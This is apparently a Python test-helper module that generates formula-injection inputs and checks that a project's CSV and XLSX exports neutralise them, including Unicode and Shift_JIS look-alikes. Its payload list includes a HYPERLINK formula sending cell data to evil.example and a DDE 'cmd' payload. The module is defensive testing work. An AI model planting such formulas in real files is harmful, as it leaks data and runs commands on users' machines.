"""What a spreadsheet would run as a formula, text that looks harmless until it is folded,
and readers of our export files: shared by the export tests (no test here)."""

import csv
import functools
import io
import re
import unicodedata

from hypothesis import strategies as st
from openpyxl import load_workbook

from kobepost.lib.spreadsheets import to_cp932

TRIGGERS = ("=", "+", "-", "@")
ENCODINGS = ("utf-8", "cp932")


def shift_jis_reading(text: str) -> str:
    """What a reader of the Shift_JIS file sees for ``text``."""
    return to_cp932(text).decode("cp932")


def _without_blanks(text: str) -> str:
    index = 0
    while index < len(text) and (
        text[index].isspace() or unicodedata.category(text[index]) in {"Cc", "Cf", "Zs"}
    ):
        index += 1
    return text[index:]


def is_live_formula(cell: str) -> bool:
    """Would a spreadsheet run ``cell`` (as read from the file) as a formula?

    Excel runs = + - @ and, in Japanese, full-width 「＝」; other programs fold compatibility
    forms (NFKC); Windows re-saving the file as Shift_JIS spells look-alikes in ASCII; some
    importers skip leading blanks, and a leading tab or return (OWASP).
    """
    if cell.startswith(("\t", "\r")):
        return True
    readings = (
        cell,
        unicodedata.normalize("NFKC", cell),
        unicodedata.normalize("NFKC", shift_jis_reading(cell)),
    )
    return any(_without_blanks(reading).startswith(TRIGGERS) for reading in readings)


def csv_shows(typed: str, encoding: str) -> str:
    """The CSV cell for ``typed``: its spelling in the file, with one apostrophe only when
    it (past any apostrophes typed before it) would start a formula."""
    spelled = shift_jis_reading(typed) if encoding == "cp932" else typed
    return "'" + spelled if is_live_formula(spelled.lstrip("'")) else spelled


def excel_shows(value: str) -> str:
    """The text Excel shows for a string cell read by openpyxl (OOXML's _xHHHH_ escapes)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), value)


@functools.cache
def lookalike_starts() -> tuple[str, ...]:
    """Every character whose NFKC form or Shift_JIS spelling starts a formula.

    The Shift_JIS spelling is looked up on the BMP, where all of cp932 lies; elsewhere the
    writer can only use a character's NFKC form (scanned over all of Unicode) or 〓.
    """
    found = []
    for code in range(1, 0x110000):
        char = chr(code)
        if unicodedata.category(char) == "Cs":
            continue
        if unicodedata.normalize("NFKC", char).startswith(TRIGGERS) or (
            code <= 0xFFFF
            and unicodedata.normalize("NFKC", shift_jis_reading(char)).startswith(TRIGGERS)
        ):
            found.append(char)
    return tuple(found)


# PostgreSQL text holds neither NUL nor lone surrogates; everything else may be typed.
any_character = st.characters(
    exclude_categories=("Cs",),  # type: ignore[arg-type]  # a category name, as typed
    exclude_characters="\x00",
)
FORMULA_BODIES = [
    'HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "1+1",
    "SUM(1)",
    "cmd|' /C calc'!A0",
    "０７８－３３１－８１８１",
    "",
    "_x000D_",
]


@st.composite
def formula_text(draw) -> str:
    """Text a caller, a citizen or staff could type that starts, once folded, a formula."""
    lead = draw(st.sampled_from(["", "", "", "'", " ", "\u3000", "\t", "\r", "\n", "\u200b"]))
    start = draw(st.sampled_from(lookalike_starts()))
    body = draw(st.one_of(st.sampled_from(FORMULA_BODIES), st.text(any_character, max_size=8)))
    return lead + start + body


# Mostly formula look-alikes, and sometimes anything at all (the plain path of the writer).
typed_text = st.one_of(formula_text(), formula_text(), st.text(any_character, max_size=12))


def csv_cells(data: bytes, encoding: str) -> list[list[str]]:
    if encoding == "utf-8":
        assert data.startswith(b"\xef\xbb\xbf")
        text = data[3:].decode("utf-8")
    else:
        text = data.decode("cp932")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet, as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_csv_safe_and_as_typed(data: bytes, encoding: str, typed: list[str]) -> None:
    """No cell of the file is a live formula, and each typed text is there as ``csv_shows``."""
    cells = [cell for row in csv_cells(data, encoding) for cell in row]
    live = [cell for cell in cells if is_live_formula(cell)]
    assert not live, f"live formulas in the {encoding} CSV: {live!r}"
    for text in typed:
        assert csv_shows(text, encoding) in cells, (text, encoding)


def assert_xlsx_safe_and_as_typed(data: bytes, typed: list[str]) -> None:
    """No cell is a formula, error or guessed value; each typed text shows unchanged."""
    cells = xlsx_cells(data)
    assert not [cell for cell in cells if cell.data_type not in {"s", "n"}]
    shown = {excel_shows(cell.value) for cell in cells if cell.data_type == "s"}
    shown |= {"" for cell in cells if cell.value is None}
    for text in typed:
        assert text in shown, text
    for cell in cells:
        if cell.data_type == "s" and is_live_formula(excel_shows(cell.value)):
            assert cell.quotePrefix, cell.value  # editing the cell in Excel keeps it text
